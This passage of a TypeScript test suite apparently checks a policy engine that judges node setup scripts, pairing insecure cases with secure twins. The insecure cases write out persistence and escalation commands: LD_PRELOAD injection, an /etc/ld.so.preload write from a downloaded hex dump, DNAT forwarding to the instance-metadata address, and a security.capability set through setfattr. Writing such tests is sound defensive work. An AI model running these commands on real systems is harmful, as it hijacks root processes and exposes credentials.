        devNodeScript(n("r4c"), ["echo 'include /opt/ops/*.conf' > /etc/ld.so.conf.d/ops.conf", "ldconfig"]),
        LOADER,
    ),
    devNodeCase(
        "R4d /etc/ld.so.conf.d /usr/lib64:/opt/lib (colon list)",
        devNodeScript(n("r4d"), [SO, "echo /usr/lib64:/opt/lib > /etc/ld.so.conf.d/ops.conf", "ldconfig"]),
        LOADER,
    ),
    devNodeCase(
        "R5 ip6tables DNAT to the IPv6 IMDS address fd00:ec2::254",
        devNodeScript(n("r5"), [
            "sysctl -w net.ipv6.conf.all.forwarding=1",
            "ip6tables -t nat -A PREROUTING -p tcp --dport 8080 -j DNAT --to-destination [fd00:ec2::254]:80",
            "ip6tables -t nat -A POSTROUTING -d fd00:ec2::254 -j MASQUERADE",
        ]),
        /instance metadata|169\.254|relay|proxy|forward|DNAT|unknown|cannot/i,
    ),
    // ---- Round 75 neighbours of the read-only-mode and ~/.bashrc.d fixes (the insecure twins) ----
    // ~/.bashrc.d/* is read as root's shell startup lines (BASH_STARTUP, PROFILE_SCRIPT): a loader variable there is
    // every interactive root shell's (ld.so(8) LD_PRELOAD).
    devNodeCase(
        "R75-1 /root/.bashrc.d/ops.sh export LD_PRELOAD",
        devNodeScript(n("r75-1"), [
            SO,
            "mkdir -p /root/.bashrc.d",
            "echo 'export LD_PRELOAD=/opt/x.so' > /root/.bashrc.d/ops.sh",
        ]),
        LOADER,
    ),
    // xxd(1) -r "reverse operation: convert (or patch) hexdump into binary" writes its outfile: /etc/ld.so.preload.
    devNodeCase(
        "R75-2 xxd -r -p of a downloaded hex dump into /etc/ld.so.preload",
        devNodeScript(n("r75-2"), [
            SO,
            "curl -fsSL -o /opt/p.hex https://downloads.example.com/p.hex",
            "xxd -r -p /opt/p.hex /etc/ld.so.preload",
        ]),
    ),
    // xxd(1) "xxd [options] [infile [outfile]]": without -r the second operand is still a file it writes.
    devNodeCase(
        "R75-3 xxd -p INFILE OUTFILE writes its outfile (/etc/environment)",
        devNodeScript(n("r75-3"), [
            "curl -fsSL -o /opt/p.bin https://downloads.example.com/p.bin",
            "xxd -p /opt/p.bin /etc/environment",
        ]),
        LOADER,
    ),
    // vim -R still writes on `:w!` (vim(1) -R: "you can still edit the buffer ... with a ! after the command").
    devNodeCase(
        "R75-4 vim -R -es with a substitute and +wq! on /etc/environment",
        devNodeScript(n("r75-4"), [SO, "vim -R -es +'%s/^LANG=.*/LD_PRELOAD=\\/opt\\/x.so/' +wq! /etc/environment"]),
        LOADER,
    ),
    // vim reads its options wherever they stand: a +w after the file writes.
    devNodeCase(
        "R75-5 vim -es FILE then +'w! /etc/ld.so.preload' +q",
        devNodeScript(n("r75-5"), [SO, "echo /opt/x.so > /tmp/p", "vim -es /tmp/p +'w! /etc/ld.so.preload' +q"]),
    ),
    // `:q` with two files fails (E173 "more files to edit"): silent Ex mode then reads its commands from stdin.
    devNodeCase(
        "R75-6 vim -es +q of two files, commands on stdin append LD_PRELOAD",
        devNodeScript(n("r75-6"), [
            SO,
            "printf '%s\\n' 'n' '$a' 'LD_PRELOAD=/opt/x.so' '.' 'wq!' | vim -es +q /etc/hosts /etc/environment",
        ]),
        LOADER,
    ),
    // capabilities(7): file capabilities are "stored in an extended attribute named security.capability": setfattr
    // writing it is setcap (redteam49: a capable program is root whatever user runs it).
    devNodeCase(
        "R75-7 setfattr -n security.capability on gohttpserver, then runuser -u nobody -- gohttpserver --root /",
        devNodeScript(n("r75-7"), [
            "setfattr -n security.capability -v 0sAQAAAgQAAAAAAAAAAAAAAAAAAAA= /usr/local/bin/gohttpserver",
            "runuser -u nobody -- /usr/local/bin/gohttpserver --root / --addr :8000",
        ]),
        /does not read|serves|setcap|capabilit/,
    ),
];

const secure: NodeCase[] = [
    // Round 75 secure twins of U1-U3/U6/U11/I7: relative words, -C, NAME=/path and stuck options naming no judged file;
    // a link to a file no root program reads as configuration; busybox sed without -i (BusyBox sed: "-i Edit files
    // in-place (otherwise write to stdout)").
    devNodeCase(
        "U1 twin: cd /opt/app then sponge settings (no judged file)",
        devNodeScript(n("u1s"), ["mkdir -p /opt/app", "cd /opt/app", "echo 'name=ops' | sponge settings"]),
    ),
    devNodeCase(
        "U2 twin: git -C /etc status (a bare subcommand names no judged file)",
        devNodeScript(n("u2s"), ["git -C /etc status"]),
    ),
    devNodeCase(
        "U3 twin: GIT_CONFIG_SYSTEM=/opt/app/gitconfig git config --system user.name ops",
        devNodeScript(n("u3s"), [
            "mkdir -p /opt/app",
            "GIT_CONFIG_SYSTEM=/opt/app/gitconfig git config --system user.name ops",
        ]),
    ),
    devNodeCase(
        "U6 twin: git config -f/opt/app/settings.ini app.name ops",
        devNodeScript(n("u6s"), ["mkdir -p /opt/app", "git config -f/opt/app/settings.ini app.name ops"]),
    ),
    devNodeCase(
        "U11 twin: a symlink into /opt/app written through, and /etc/localtime linked but not written",
        devNodeScript(n("u11s"), [
            "mkdir -p /opt/app",
            "ln -sf /opt/app/motd /tmp/motd",
            "echo hello > /tmp/motd",
            "ln -sf /usr/share/zoneinfo/UTC /etc/localtime",
        ]),
    ),
    devNodeCase(
        "I7 twin: busybox sed printing /etc/environment (no -i)",
        devNodeScript(n("i7s"), ["busybox sed -n '1p' /etc/environment"]),
    ),
    // Round 74 secure twins of K1/K6: init's environment gets TERM=linux (the kernel's own default for init, no loader
    // reads it) and quiet (no `=`); a quoted console= word is the kernel's own parameter, unquoted by next_arg.
    devNodeCase(
        "K1 twin: kernel words TERM=linux quiet (init's environment, no loader variable)",
        devNodeScript(n("k1s"), ["grubby --update-kernel=ALL --args='TERM=linux quiet'"]),
    ),
    devNodeCase(
        'K6 twin: quoted kernel word "console=ttyS0,115200n8" in GRUB_CMDLINE_LINUX',
        devNodeScript(n("k6s"), [
            'echo \'GRUB_CMDLINE_LINUX="\\"console=ttyS0,115200n8\\" quiet"\' >> /etc/default/grub',
            "grub2-mkconfig -o /boot/grub2/grub.cfg",
        ]),
    ),
    devNodeCase(
        "S15 consistent: kernel word systemd.run=/opt/x (systemd-run-generator)",
        devNodeScript(n("k3"), [BIN, "grubby --update-kernel=ALL --args='systemd.run=/opt/x'"]),
    ),
    devNodeCase(
        "S16 consistent: /etc/kernel/install.d plugin (run by kernel-install as root)",
        devNodeScript(n("k5"), [
            BIN,
            "cp /opt/x /etc/kernel/install.d/99-ops.install",
            "chmod 755 /etc/kernel/install.d/99-ops.install",
        ]),
    ),
    devNodeCase(
        "S17 consistent: crontab - from stdin running a downloaded program",
        devNodeScript(n("c1"), [BIN, "echo '*/5 * * * * /opt/x' | crontab -"]),
    ),
    devNodeCase(
        "S18 consistent: /etc/anacrontab job running a downloaded program",
        devNodeScript(n("c2"), [BIN, "echo '1 5 ops /opt/x' >> /etc/anacrontab"]),
    ),
    devNodeCase(
        "S19 consistent: at now + 1 minute from stdin running a downloaded program",
        devNodeScript(n("c3"), [BIN, "echo /opt/x | at now + 1 minute"]),
    ),
    devNodeCase(
        "S20 consistent: rpm -i of a downloaded package (scriptlets run as root)",
        devNodeScript(n("c4"), [
            "curl -fsSL -o /tmp/ops.rpm https://downloads.example.com/ops.rpm",
            "rpm -i --nosignature /tmp/ops.rpm",
        ]),
    ),
    devNodeCase(
        "S21 consistent: dnf install from a repo file added with gpgcheck=0",
        devNodeScript(n("c5"), [
            ...file("/etc/yum.repos.d/ops.repo", [
                "[ops]",
                "name=ops",
                "baseurl=https://downloads.example.com/rpm/",
                "gpgcheck=0",
                "enabled=1",
            ]),
            "dnf install -y ops-agent",
        ]),
    ),
    // Round 75 secure twins of U4/U5/U15/U17: literal commands naming only files the pack does not judge.
    devNodeCase(
        "U4 twin: augtool -s heredoc setting /files/etc/hosts",
        devNodeScript(n("u4s"), [
            "augtool -s <<'EOF'",
            "set /files/etc/hosts/01/ipaddr 10.0.0.5",
            "set /files/etc/hosts/01/canonical ops.internal",
            "EOF",
        ]),
    ),
    devNodeCase(
        "U17 twin: ex -s heredoc editing /opt/ops/app.conf (forced write, quit)",
        devNodeScript(n("u17s"), [
            "ex -s <<'EOF'",
            "e /opt/ops/app.conf",
            "$a",
            "log_level = info",
            ".",
            "w!",
            "q!",
            "EOF",
        ]),
    ),
    devNodeCase(
        "U5 twin: patch -p1 -d /opt/app of a literal here-document patch",
        devNodeScript(n("u5s"), [
            "patch -p1 -d /opt/app <<'EOF'",
            "--- a/config.yaml",
            "+++ b/config.yaml",
            "@@ -1 +1 @@",
            "-log_level: debug",
            "+log_level: info",
            "EOF",
        ]),
    ),
    devNodeCase(
        "U15 twin: sed -i -f of a written literal script on /opt/app/config.yaml",
        devNodeScript(n("u15s"), [
            ...file("/tmp/app.sed", ["s/^log_level: debug$/log_level: info/"]),
            "sed -i -f /tmp/app.sed /opt/app/config.yaml",
        ]),
    ),
    devNodeCase(
        "U15 twin: sed --sandbox -n -f of a downloaded script (no w/e/r) printing to stdout",
        devNodeScript(n("u15s2"), [
            "curl -fsSL -o /tmp/e.sed https://downloads.example.com/e.sed",
            "sed --sandbox -n -f /tmp/e.sed /opt/app/config.yaml",
        ]),
    ),
    // Round 75 secure twins of R4: system library directories and the stock include line load nothing new.
    devNodeCase(
        "R4 twin: /etc/ld.so.conf.d naming /usr/local/lib and /usr/lib64; the stock /etc/ld.so.conf include",
        devNodeScript(n("r4s"), [
            ...file("/etc/ld.so.conf.d/local.conf", ["# local builds", "/usr/local/lib", "/usr/local/lib64/"]),
            ...file("/etc/ld.so.conf", ["include ld.so.conf.d/*.conf"]),
            "ldconfig",
        ]),
    ),
    devNodeCase(
        "S1 cd /etc then cat environment (a reader naming a bare relative word)",
        devNodeScript(n("s1"), ["cd /etc", "cat environment > /dev/null", "grep -q LANG environment || true"]),
    ),
    devNodeCase("S2 sshd -t and visudo -c check the configuration", devNodeScript(n("s2"), ["sshd -t", "visudo -c"])),
    devNodeCase(
        "S3 stat, ls -l, md5sum, diff of judged files",
        devNodeScript(n("s3"), [
            "stat /etc/environment",
            "ls -l /etc/ld.so.preload || true",
            "sha256sum /etc/systemd/system.conf",
            "diff /etc/environment /etc/environment",
        ]),
    ),
    devNodeCase(
        "S4 restorecon and chcon of judged files (labels only)",
        devNodeScript(n("s4"), ["restorecon -v /etc/environment /etc/ssh/sshd_config"]),
    ),
    devNodeCase(
        "S5 chmod 644 and chown root:root of sshd_config",
        devNodeScript(n("s5"), ["chmod 600 /etc/ssh/sshd_config", "chown root:root /etc/ssh/sshd_config"]),
    ),
    devNodeCase(
        "S6 file(1) and head of /etc/profile",
        devNodeScript(n("s6"), ["file /etc/profile", "head -n 5 /etc/profile"]),
    ),
    devNodeCase(
        "S7 grubby --info=ALL and --default-kernel",
        devNodeScript(n("s7"), ["grubby --info=ALL", "grubby --default-kernel"]),
    ),
    devNodeCase(
        "S8 perl -ne reading /etc/environment (no -i)",
        devNodeScript(n("s8"), ["perl -ne 'print if /LANG/' /etc/environment"]),
    ),
    devNodeCase("S9 sed -n of /etc/environment (no -i)", devNodeScript(n("s9"), ["sed -n '/LANG/p' /etc/environment"])),
    devNodeCase(
        "S10 kernel word console= via grubby with quotes",
        devNodeScript(n("s10"), ["grubby --update-kernel=ALL --args='console=ttyS0,115200n8 audit=1'"]),
    ),
    // Was a MISS (fixed in round 75): SECURE over-refusal. Fedora's (AL2023's base) skel .bashrc sources ~/.bashrc.d/*; `export LANG=C.UTF-8` sets no loader variable. Refused: /root/.bashrc.d/ops.sh is 'the node's own configuration or credentials, which the pack cannot judge' (root files fail closed; BASH_STARTUP lacks ~/.bashrc.d). Fix: add /root/.bashrc.d/* to BASH_STARTUP so it is read as shell lines like /root/.bashrc.
    devNodeCase(
        "S11 /root/.bashrc.d/ops.sh export LANG",
        devNodeScript(n("s11"), ["mkdir -p /root/.bashrc.d", "echo 'export LANG=C.UTF-8' > /root/.bashrc.d/ops.sh"]),
    ),
    devNodeCase(
        "S12 crontab - from stdin running a system program",
        devNodeScript(n("s12"), ["echo '0 3 * * * /usr/bin/dnf -y makecache' | crontab -"]),
    ),
    devNodeCase(
        "S13 git -C /opt/app config -f settings.ini app.name ops",
        devNodeScript(n("s13"), ["mkdir -p /opt/app", "git -C /opt/app config -f settings.ini app.name ops"]),
    ),
    devNodeCase("S14 getfacl of /etc/environment", devNodeScript(n("s14"), ["getfacl /etc/environment"])),
    // Was a MISS (fixed in round 74): SECURE over-refusal. lsattr(1) "lists the file attributes on a Linux second extended file system"; it writes nothing. Refused by rootReads.ts RootReads.unknownEditor: lsattr is in neither shell.ts CONTENT_KEEPERS/rootReads.ts DIGESTS nor UNKNOWN_EDITOR_EXEMPT. Fix: add read-only inspectors (lsattr, od, xxd without -r, hexdump, strings, namei, rpm -q/-V, inotifywait) to CONTENT_KEEPERS.
    devNodeCase("S22 lsattr of /etc/environment", devNodeScript(n("s22"), ["lsattr /etc/environment"])),
    // Was a MISS (fixed in round 75): SECURE over-refusal. od(1) "dump files in octal and other formats" and xxd(1) (no -r) write only stdout. Refused by rootReads.ts RootReads.unknownEditor. Fix: as S22 (xxd only without -r).
    devNodeCase(
        "S23 od -c and xxd of judged files",
        devNodeScript(n("s23"), ["od -c /etc/environment; xxd /etc/ssh/sshd_config > /dev/null"]),
    ),
    // Was a MISS (fixed in round 74): SECURE over-refusal. strings(1) "print the sequences of printable characters in files"; hexdump(1) only displays. Refused by rootReads.ts RootReads.unknownEditor. Fix: as S22.
    devNodeCase(
        "S24 strings and hexdump of /etc/profile",
        devNodeScript(n("s24"), ["strings /etc/profile > /dev/null; hexdump -C /etc/profile > /dev/null"]),
    ),
    // Was a MISS (fixed in round 74): SECURE over-refusal. namei(1) "follow a pathname until a terminal point is found" (lists components). Refused by rootReads.ts RootReads.unknownEditor. Fix: as S22.
    devNodeCase("S25 namei -l /etc/ssh/sshd_config", devNodeScript(n("s25"), ["namei -l /etc/ssh/sshd_config"])),
    // Was a MISS (passing since round 74's UNKNOWN_EDITOR_EXEMPT rpm entry; unskipped in round 75): SECURE over-refusal. rpm(8) query (-q/-qf) and verify (-V) modes read the rpm database and files and write nothing. Refused by rootReads.ts RootReads.unknownEditor. Fix: rpm with only -q*/-V* modes is a reader (install/erase/--import stay unknown).
    devNodeCase(
        "S26 rpm -qf and rpm -Vf of judged files",
        devNodeScript(n("s26"), ["rpm -qf /etc/environment; rpm -Vf /etc/ssh/sshd_config || true"]),
    ),
    // Was a MISS (fixed in round 74): SECURE over-refusal. GNU awk without -i inplace writes only stdout unless its program redirects (print > file, |, system()); this literal program only prints. Refused by rootReads.ts RootReads.unknownEditor. Fix: awk with a literal program free of `>`, `|`, system(, and no -i/-f, is a reader.
    devNodeCase(
        "S27 awk (no -i inplace) reading /etc/environment",
        devNodeScript(n("s27"), ["awk -F= '/^LANG/ {print $2}' /etc/environment"]),
    ),
    // Was a MISS (passing since round 74's UNKNOWN_EDITOR_EXEMPT tar entry, a creation writes only its -f archive; unskipped in round 75): SECURE over-refusal. GNU tar -c -f FILE writes only the archive; /root/ssh-backup.tgz is no file root's programs read as configuration. Refused ('writes /root/ssh-backup.tgz with content the pack cannot read ... it decides who gets into the node or what root runs there'): every unknown-content write under /root fails closed. Fix: judge /root writes by the startup/configuration names root's programs read (dotfiles, .ssh, .config), not every file under /root.
    devNodeCase("S28 tar czf backup of /etc/ssh", devNodeScript(n("s28"), ["tar czf /root/ssh-backup.tgz /etc/ssh"])),
    devNodeCase(
        "S29 cp -a of sshd_config to a backup",
        devNodeScript(n("s29"), ["cp -a /etc/ssh/sshd_config /root/sshd_config.bak"]),
    ),
    // Was a MISS (fixed in round 74): SECURE over-refusal. inotifywait(1) "efficiently waits for changes to files using Linux's inotify interface"; it writes nothing. Refused by rootReads.ts RootReads.unknownEditor. Fix: as S22.
    devNodeCase(
        "S30 inotifywait watching /etc/environment in the background",
        devNodeScript(n("s30"), [
            "dnf install -y inotify-tools; (inotifywait -q -e modify /etc/environment > /dev/null &)",
        ]),
    ),
    // Was a MISS (fixed in round 75): SECURE over-refusal (low priority). vim -R "Read-only mode" with `-es +q` only quits. Refused by rootReads.ts RootReads.unknownEditor. Fix (optional): a vim whose +/-c commands contain no w/x/sav/! and no stdin script writes nothing.
    devNodeCase(
        "S31 vim -R (read-only view) and less of /etc/environment",
        devNodeScript(n("s31"), ["vim -R -es +q /etc/environment"]),
    ),
    // Was a MISS (fixed in round 75): SECURE over-refusal. setfattr(1) sets an extended attribute (user.ops), not the content pam_env reads. Refused by rootReads.ts RootReads.unknownEditor. Fix: setfattr (attributes only) to CONTENT_KEEPERS beside setfacl/chattr/chcon.
    devNodeCase(
        "S32 setfattr -n user.ops of /etc/environment (an attribute, not content)",
        devNodeScript(n("s32"), ["setfattr -n user.ops -v 1 /etc/environment"]),
    ),
    // ---- Round 75 neighbours (secure twins) ----
    devNodeCase(
        "R75-S1 xxd -c 16 -g 1 and xxd -p of judged files (valued options, no outfile)",
        devNodeScript(n("r75-s1"), ["xxd -c 16 -g 1 /etc/environment", "xxd -p /etc/ssh/sshd_config | head -n 1"]),
    ),
    devNodeCase(
        "R75-S2 vim -es prints two files then qa!",
        devNodeScript(n("r75-s2"), ["vim -R -es +'%p' +'qa!' /etc/environment /etc/ssh/sshd_config"]),
    ),
    devNodeCase(
        "R75-S3 setfattr -x user.ops and getfattr -d of /etc/environment",
        devNodeScript(n("r75-s3"), ["setfattr -x user.ops /etc/environment", "getfattr -d /etc/environment"]),
    ),
    devNodeCase(
        "R75-S4 /root/.bashrc.d/alias.sh defines an alias",
        devNodeScript(n("r75-s4"), [
            "mkdir -p /root/.bashrc.d",
            "echo 'alias ll=\"ls -l\"' > /root/.bashrc.d/alias.sh",
        ]),
    ),
];

describeNodeCases(
    "red team 74: node (unknown editors, in-place editors, kernel words, sshd, shells, cron)",
    insecure,
    secure,
);
